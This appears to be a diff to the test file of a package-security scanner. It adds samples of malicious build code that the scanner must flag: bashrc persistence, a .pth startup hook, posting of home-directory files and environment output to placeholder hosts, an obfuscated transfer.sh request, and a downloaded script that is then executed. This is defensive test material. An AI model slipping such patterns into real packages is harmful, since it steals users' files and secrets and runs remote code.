@@ -186,6 +186,55 @@ TECHNIQUES = (
     ),
 )
 
+_WEBHOOK_URL = base64.b64encode(b"https://example.invalid/hook").decode()
+MORE_TECHNIQUES = (
+    Technique(
+        "shell-profile-persistence",
+        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
+        "    rc.write('echo hello\\n')\n",
+    ),
+    Technique(
+        "startup-code-in-site-packages",
+        "import os, site\npath = os.path.join(site.getsitepackages()[0], 'zz.pth')\n"
+        "open(path, 'w').write('import sys')\n",
+    ),
+    Technique(
+        "request-to-decoded-address",
+        f"import base64, requests\nrequests.post(base64.b64decode('{_WEBHOOK_URL}'), data={{}})\n",
+    ),
+    Technique(
+        "webhook-spelled-in-pieces",
+        "import requests\nhost = 'transfer' + '.' + 'sh'\nrequests.get(f'https://{host}/x')\n",
+    ),
+    Technique(
+        "file-contents-posted-by-own-helper",
+        "import glob, json, urllib.request\n"
+        "def post(body):\n"
+        "    urllib.request.urlopen('https://example.invalid', json.dumps(body).encode())\n"
+        "for name in glob.glob('/home/*/notes.txt'):\n"
+        "    post({name: open(name).read()})\n",
+    ),
+    Technique(
+        "command-output-sent",
+        "import os, urllib.request\nseen = os.popen('env').read()\n"
+        "urllib.request.urlopen('https://example.invalid', data=seen.encode())\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "star-imported-process-call",
+        "from os import *\nimport base64\n"
+        f"system(base64.b64decode('{_HARMLESS_COMMAND}'))\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "downloaded-script-run-by-python",
+        "import subprocess, sys, requests\n"
+        "reply = requests.get('https://example.invalid/u.py')\n"
+        "with open('u.py', 'wb') as out:\n    out.write(reply.content)\n"
+        "subprocess.check_call([sys.executable, 'u.py'])\n",
+    ),
+)
+
 ORDINARY = (
     Technique(
         "compiler-probe-in-temp-folder",
@@ -227,6 +276,16 @@ ORDINARY = (
         files={"tools/generate.py": "open('demo/gen.py', 'w').write('X = 1')\n"},
     ),
     Technique(
+        "pth-file-built-into-the-tree",
+        "with open('a1_demo.pth', 'w') as pth:\n    pth.write('import demo_start')\n",
+    ),
+    Technique(
+        "version-from-git-in-a-request-free-build",
+        "import subprocess\n"
+        "sha = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip()\n"
+        "open('demo/_sha.py', 'w').write(f'SHA = {sha!r}')\n",
+    ),
+    Technique(
         "package-helpers-not-called-on-import",
         "from demo import __version__\n",
         files={
@@ -243,7 +302,7 @@ def _scan(technique: Technique, tmp_path: Path) -> list[Finding]:
     return scan_path(make_sdist(tmp_path, "demo", "1.0", files))
 
 
-@pytest.mark.parametrize("technique", TECHNIQUES, ids=lambda t: t.name)
+@pytest.mark.parametrize("technique", TECHNIQUES + MORE_TECHNIQUES, ids=lambda t: t.name)
 def test_technique_is_blocked(technique: Technique, tmp_path: Path) -> None:
     findings = _scan(technique, tmp_path)
     worst = max((f.severity for f in findings), default=Severity.INFO)
